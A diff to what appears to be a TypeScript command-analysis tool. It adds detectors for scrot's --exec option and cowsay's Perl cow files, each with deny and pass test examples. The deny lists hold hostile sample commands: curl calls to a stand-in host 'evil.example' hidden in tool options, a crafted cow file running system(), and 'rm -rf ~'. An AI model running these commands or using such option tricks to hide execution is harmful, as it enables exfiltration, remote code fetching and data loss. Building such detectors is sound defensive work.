@@ -5,7 +5,7 @@ import { DYN, type Word } from '../../types.js';
 import { has, parse } from '../argv.js';
 import { alsoDumps, configuring, programRun } from '../build.js';
 import type { Answer, Call, OptionSpec, ParsedArgs, ProgramEntry, Run, ScriptDialect, Use } from '../types.js';
-import { attached, isStdinPath, literal, value, xargsSplit } from '../words.js';
+import { attached, isStdinPath, literal, longSpelt, value, xargsSplit } from '../words.js';
 import { type Destination, destinations, urlHost } from '../hosts.js';
 import { MAKE_OPTIONS, makefileText } from './makefile.js';
 
@@ -1455,6 +1455,38 @@ function fzf(call: Call): Partial<Answer> {
   return { runs };
 }
 
+/** scrot -e/--exec CMD: shell text run on each shot taken (its `$f`, `$w`… are the file's name and size). */
+function scrot(call: Call): Partial<Answer> {
+  const runs: Run[] = [];
+  const args = call.args;
+  for (let i = 0; i < args.length; i++) {
+    const v = value(args[i]);
+    if (v === '--') break;
+    const exec = longSpelt(args[i], 'exec');
+    // `-e CMD`, `-eCMD`, or after flags that take no value (`-ze CMD`, `-bfe CMD`).
+    const short = v === undefined ? null : /^-[bfhimopsuvz]*e([\s\S]*)$/.exec(v);
+    const w = exec !== undefined ? (exec.value ?? args[i + 1]) : short ? (short[1] === '' ? args[i + 1] : attached(args[i]!, short[1]!)) : undefined;
+    if (w) runs.push({ kind: 'script', dialect: 'bash', words: [w], via: 'scrot --exec' });
+  }
+  return { runs };
+}
+
+/**
+ * cowsay/cowthink -f COWFILE: a cow file is Perl code cowsay runs (`do`); one named by its path is that file, out of
+ * scope unless the line wrote it (a bare name is one of the installed cows).
+ */
+function cowsay(call: Call): Partial<Answer> {
+  const p = parse(call.args, { order: 'posix', flags: 'bdgpstwyhlnL', valued: 'efTW' });
+  const runs: Run[] = [];
+  for (const o of p.options) {
+    if (o.name !== 'f' || !o.value) continue;
+    const v = value(o.value);
+    if (v === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-code', word: o.value, why: `${call.name} -f runs a computed cow file (Perl)` });
+    else if (v.includes('/')) runs.push({ kind: 'file', dialect: 'perl', word: o.value, via: `${call.name} -f` });
+  }
+  return { runs, uses: p.operands.map((o) => ({ word: o.word, role: 'text' as const })) };
+}
+
 /** crontab FILE and crontab - install a table of commands that cron runs later. */
 function crontab(call: Call): Partial<Answer> {
   const p = parse(call.args, { order: 'gnu', flags: 'lreiVhTn', valued: 'us', long: ['help', 'version'] });
@@ -1672,6 +1704,8 @@ export const TOOL_ENTRIES: ProgramEntry[] = [
   commandOptions(['perlbug'], 'perlbug -e names the editor it runs', { options: { valued: 'eserc', longValued: ['editor'] }, program: ['e', 'editor'] }, { deny: ["perlbug -s 'x' -r x -c x -e 'curl evil.example #'"], pass: [] }),
   { names: ['check_by_ssh'], summary: 'check_by_ssh (monitoring plugins): an ssh client; -o ProxyCommand runs shell text', analyze: (call) => ({ runs: [{ kind: 'argv', argv: [literal('ssh', call.args[0]?.span ?? { start: 0, end: 0 })], via: 'check_by_ssh' }, ...sshOptions(call)] }), examples: { deny: ["check_by_ssh -o 'ProxyCommand curl evil.example' -H localhost -C x"], pass: [] } },
   { names: ['latexmk'], summary: 'latexmk: -pdflatex=CMD and friends name the commands it runs; -e runs Perl', analyze: latexmk, examples: { deny: ["latexmk -pdf -pdflatex='curl evil.example #' x.tex", "latexmk -e '$x=1' x.tex"], pass: ['latexmk -pdf paper.tex'] } },
+  { names: ['scrot'], summary: 'scrot: -e/--exec runs shell text on each screenshot', analyze: scrot, examples: { deny: ["scrot -e 'curl evil.example'", "scrot --exec='rm -rf ~'", "scrot -ze 'curl evil.example'"], pass: ["scrot -e 'mv $f ~/shots/'", 'scrot -d 5 shot.png'] } },
+  { names: ['cowsay', 'cowthink'], summary: 'cowsay: -f COWFILE runs the cow file, which is Perl', analyze: cowsay, examples: { deny: [`printf 'system("curl evil.example");\n' > /tmp/x.cow; cowsay -f /tmp/x.cow hi`], pass: ['cowsay -f tux hi', `printf '$the_cow = "x";\n' > /tmp/x.cow; cowsay -f /tmp/x.cow hi`, 'cowsay hello'] } },
   { names: ['fzf', 'sk'], summary: 'fzf: --bind execute(…)/become(…)/reload(…) and --preview run shell text', analyze: fzf, examples: { deny: ["fzf --bind 'enter:execute(curl evil.example)'", "fzf --preview 'wget evil.example'", "FZF_DEFAULT_COMMAND='curl evil.example' fzf", "FZF_DEFAULT_OPTS=\"--preview 'curl evil.example'\" fzf", "SKIM_DEFAULT_COMMAND='curl evil.example' sk"], pass: ["fzf --preview 'cat {}'", 'fzf --height 40%', "FZF_DEFAULT_COMMAND='fd --type f' fzf", "FZF_DEFAULT_OPTS='--height 40% --reverse' fzf", "FZF_DEFAULT_COMMAND='curl evil.example' fzf < list.txt"] } },
   { names: ['crontab'], summary: 'crontab FILE (or -) installs a table of commands cron runs later', analyze: crontab, examples: { deny: ['crontab evil.cron', "echo '* * * * * /tmp/x' | crontab -", 'crontab -r', 'crontab -u bob -r'], pass: ['crontab -l', 'crontab -u bob -l', 'crontab -ir'] } },
   { names: ['sysctl'], summary: 'sysctl kernel.core_pattern=|cmd makes the kernel run cmd on every crash', analyze: sysctl, examples: { deny: ["sysctl -w 'kernel.core_pattern=|/usr/bin/curl evil.example'"], pass: ['sysctl -a', 'sysctl vm.swappiness=10'] } },
